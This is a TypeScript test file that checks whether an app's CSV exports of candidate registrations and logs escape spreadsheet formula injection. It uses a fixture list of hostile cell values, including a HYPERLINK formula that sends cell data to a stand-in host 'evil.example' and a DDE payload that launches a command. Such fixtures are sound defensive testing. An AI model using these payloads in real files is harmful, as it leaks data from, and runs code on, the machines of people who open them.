import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { sql } from '#server/database.ts'
import { transferRegistration } from '#features/reviews/contract/transfer.ts'
import { branchNamed, someConsultant } from '#tests/consultants.ts'
import { device } from '#tests/registrations/device.ts'
import { someRegistration } from '#tests/registrations/some-registration.ts'
import { testServer } from '#tests/test-server.ts'

const server = await testServer()
const { db } = server

const FORMULAS = ['=HYPERLINK("https://evil.example?x="&A1,"me")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1']

/** Every list that leaves as a file, with somebody in it who is called like a formula. */
test.each(FORMULAS)('S-37 a person called %j is text in every file of the desk', async (name) => {
  const desk = await someConsultant(server)
  const now = server.clock()
  const { id: person } = await db.one<{ id: string }>(sql`insert into candidates (first_name, last_name, created_at, last_active_at) values (${name}, ${name}, ${now}, ${now}) returning id`)
  await someRegistration(server, person, { status: 'Submitted' })
  const answer = await desk.fetch('/API/v1/Registrations/Csv')
  const text = await answer.text()
  const cells = (parse(text, { bom: true }) as string[][]).flat()

  expect(answer.headers.get('content-disposition')).toMatch(/^attachment; /)
  expect(cells.filter((cell) => cell === `'${name}`)).toHaveLength(2)
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
})

test.each(FORMULAS)('S-37 a person called %j, an answer and a reason like that are text in the file of a log', async (formula) => {
  const desk = await someConsultant(server, { branches: ['Leeds Registrations', 'Hull Registrations'], firstName: formula, lastName: formula })
  const person = await server.signUpCandidate()
  const id = await someRegistration(server, person.id)
  const typed = formula.trim()
  await device(person, id).save({ actionId: 'preferred-name', value: typed })
  await db.run(sql`update candidates set first_name = ${formula}, last_name = ${formula} where id = ${person.id}`)
  await desk.call(transferRegistration, { params: { id }, body: { branchId: await branchNamed(server, 'Hull Registrations'), reason: typed } })
  const cells = (parse(await (await desk.fetch(`/API/v1/RegistrationLog/${id}/Csv`)).text(), { bom: true }) as string[][]).flat()

  expect(cells.filter((cell) => cell === `'${typed}`)).toHaveLength(2)
  expect(cells.filter((cell) => cell.includes(formula.trim())).length).toBeGreaterThan(2)
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
})
